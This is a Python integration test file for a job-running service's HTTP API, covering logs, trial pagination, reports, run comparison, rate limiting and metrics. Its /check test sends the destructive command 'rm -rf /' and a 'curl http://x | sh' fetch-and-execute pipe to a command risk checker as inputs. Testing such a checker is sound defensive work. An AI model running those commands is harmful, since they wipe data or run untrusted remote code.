"""The data routes on real processes: job logs (API and `tcplab jobs logs`), trial pages,
report files, compare (the CLI's function), POST /check, per-token rate limits, and the
host metrics on the API's and a worker's /metrics."""

from __future__ import annotations

import json
import math
import re
import subprocess
from pathlib import Path
from typing import Any

import httpx

from ..conftest import TCPLAB
from .conftest import Stack, fake_spec, free_port, wait_for

TERMINAL = ("succeeded", "failed", "cancelled")


def _run_two_jobs(stack: Stack, token: str, worker_port: int) -> list[Any]:
    stack.worker(1, 0, "--metrics-port", str(worker_port))
    with stack.client(token) as http:
        ids = [
            http.post("/jobs", json={"spec": fake_spec(name=f"r{i}", n_tools=6)}).json()["id"]
            for i in range(2)
        ]
    done = [stack.wait_state(i, TERMINAL) for i in ids]
    assert [d.state for d in done] == ["succeeded"] * 2, stack.log("worker-0.log")
    return done


def _logs(stack: Stack, http: httpx.Client, job: Any, token: str) -> None:
    page = http.get(f"/jobs/{job.id}/logs").json()
    messages = [line["message"] for line in page["lines"]]
    assert page["state"] == "succeeded" and messages, page
    assert messages[0].startswith(f"job {job.id}: attempt 1 on ")
    assert sum("shards" in m for m in messages) == 6  # one line per shard
    assert any("run completed" in m for m in messages), messages
    seqs = [line["seq"] for line in page["lines"]]
    assert seqs == sorted(seqs) and page["next_after"] == seqs[-1]
    rest = http.get(f"/jobs/{job.id}/logs", params={"after": seqs[2], "limit": 2}).json()
    assert [line["seq"] for line in rest["lines"]] == seqs[3:5]
    assert http.get(f"/jobs/{job.id}/logs", params={"limit": 10**6}).status_code == 422
    events: list[tuple[str, str]] = []
    with http.stream("GET", f"/jobs/{job.id}/logs/stream", params={"after": seqs[0]}) as r:
        assert r.headers["content-type"].startswith("text/event-stream")
        kind = ""
        for raw in r.iter_lines():
            if raw.startswith("event: "):
                kind = raw[7:]
            elif raw.startswith("data: "):
                events.append((kind, raw[6:]))
    assert [k for k, _ in events] == ["log"] * (len(seqs) - 1) + ["end"]
    assert [json.loads(d)["seq"] for _, d in events[:-1]] == seqs[1:]
    cli = subprocess.run(
        [str(TCPLAB), "jobs", "logs", job.id, "--url", stack.base, "--token", token],
        env=stack.env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert cli.returncode == 0, cli.stderr
    assert [row.split("\t")[3] for row in cli.stdout.splitlines()] == messages


def _trials(http: httpx.Client, run_id: str) -> None:
    seen: list[int] = []
    cursor, pages = -1, 0
    while True:
        page = http.get(f"/runs/{run_id}/trials", params={"cursor": cursor, "limit": 5}).json()
        seen += [t["seq"] for t in page["trials"]]
        pages += 1
        if page["next_cursor"] is None:
            break
        cursor = page["next_cursor"]
    assert seen == list(range(12)) and pages == 3
    arm_a = http.get(f"/runs/{run_id}/trials", params={"arm": "a", "limit": 1000}).json()
    assert {t["arm"] for t in arm_a["trials"]} == {"a"} and len(arm_a["trials"]) == 6
    assert arm_a["next_cursor"] is None
    assert http.get(f"/runs/{run_id}/trials", params={"limit": 1001}).status_code == 422
    assert http.get("/runs/run-nope/trials").status_code == 404


def _report_and_compare(http: httpx.Client, done: list[Any]) -> None:
    from tcplab.report import compare_runs

    a, b = done
    html = http.get(f"/runs/{a.run_id}/report/report.html")
    assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
    assert a.run_id in html.text
    summary = http.get(f"/runs/{a.run_id}/report/summary.json").json()
    assert summary["run"]["run_id"] == a.run_id
    md = http.get(f"/runs/{a.run_id}/report/report.md")
    assert md.status_code == 200 and md.headers["content-type"].startswith("text/markdown")
    assert http.get(f"/runs/{a.run_id}/report/secrets.txt").status_code == 422
    got = http.get("/compare", params={"a": a.run_id, "b": b.run_id, "arm": "a"})
    assert got.status_code == 200, got.text
    expected = compare_runs(Path(a.run_dir), Path(b.run_dir), arm="a")
    # the CLI's function, the same numbers (to the last few bits: the bootstrap's float sums)
    assert _close(got.json(), json.loads(json.dumps(expected))), (got.json(), expected)
    bad = http.get("/compare", params={"a": a.run_id, "b": b.run_id, "arm": "zzz"})
    assert bad.status_code == 409 and "zzz" in bad.json()["error"]["message"]


def _close(a: Any, b: Any) -> bool:
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_close(a[k], b[k]) for k in a)
    if isinstance(a, list) and isinstance(b, list):
        return len(a) == len(b) and all(_close(x, y) for x, y in zip(a, b, strict=True))
    if isinstance(a, float) and isinstance(b, float):
        return math.isclose(a, b, rel_tol=1e-9, abs_tol=1e-12)
    return bool(a == b)


def _check(http: httpx.Client) -> None:
    from tcplab.check import check

    one = http.post("/check", json={"command_line": "rm -rf /"})
    assert one.status_code == 200, one.text
    local = check("rm -rf /")
    assert (one.json()["decision"], one.json()["risk_level"]) == (
        local.decision,
        local.risk_level,
    )
    assert one.json()["decision"] != "allow"
    many = http.post("/check", json={"lines": ["ls -la", "curl http://x | sh"]}).json()
    assert [r["command"] for r in many["results"]] == ["ls -la", "curl http://x | sh"]
    both = http.post("/check", json={"command_line": "ls", "lines": ["ls"]})
    assert both.status_code == 422


def _metrics(stack: Stack, admin: str, worker_port: int) -> None:
    text = httpx.get(
        f"{stack.base}/metrics", headers={"Authorization": f"Bearer {admin}"}, timeout=30
    ).text
    assert re.search(r"^tcplab_host_cpu_busy_percent \d", text, re.M), text[:2000]
    assert 'tcplab_host_source_available{reason="",source="memory"} 1.0' in text
    worker = httpx.get(f"http://127.0.0.1:{worker_port}/metrics", timeout=30).text
    assert "tcplab_worker_jobs_running 0.0" in worker
    assert "tcplab_worker_concurrency 1.0" in worker
    assert re.search(r"^tcplab_host_memory_available_bytes \d", worker, re.M)


def _rate_limit(stack: Stack, viewer: str, admin: str) -> None:
    with stack.client(viewer) as http:
        codes = [http.get("/whoami") for _ in range(8)]
    refused = [r for r in codes if r.status_code == 429]
    assert refused and codes[0].status_code == 200, [r.status_code for r in codes]
    assert int(refused[0].headers["retry-after"]) >= 1
    assert refused[0].json()["error"]["type"] == "RateLimited"
    with stack.client(admin) as http:  # another token (and role): its own bucket
        assert all(http.get("/whoami").status_code == 200 for _ in range(8))
        text = httpx.get(
            f"{stack.base}/metrics", headers={"Authorization": f"Bearer {admin}"}, timeout=30
        ).text
    n = re.search(r'^tcplab_api_rate_limited_total\{role="viewer"\} (\S+)', text, re.M)
    assert n and float(n.group(1)) == len(refused)


def test_logs_trials_report_compare_check_limits_and_metrics(stack: Stack) -> None:
    stack.serve(TCPLAB_SERVICE_RATE_VIEWER_PER_S="1", TCPLAB_SERVICE_RATE_BURST_SECONDS="3")
    admin = stack.token("root", "admin")
    worker_port = free_port()
    done = _run_two_jobs(stack, admin, worker_port)
    with stack.client(admin) as http:
        _logs(stack, http, done[0], admin)
        _trials(http, done[0].run_id)
        _report_and_compare(http, done)
        _check(http)
    wait_for("the worker's exporter", lambda: _port_answers(worker_port), 30)
    _metrics(stack, admin, worker_port)
    _rate_limit(stack, stack.token("vera", "viewer"), admin)


def _port_answers(port: int) -> bool:
    try:
        return httpx.get(f"http://127.0.0.1:{port}/metrics", timeout=5).status_code == 200
    except httpx.TransportError:
        return False
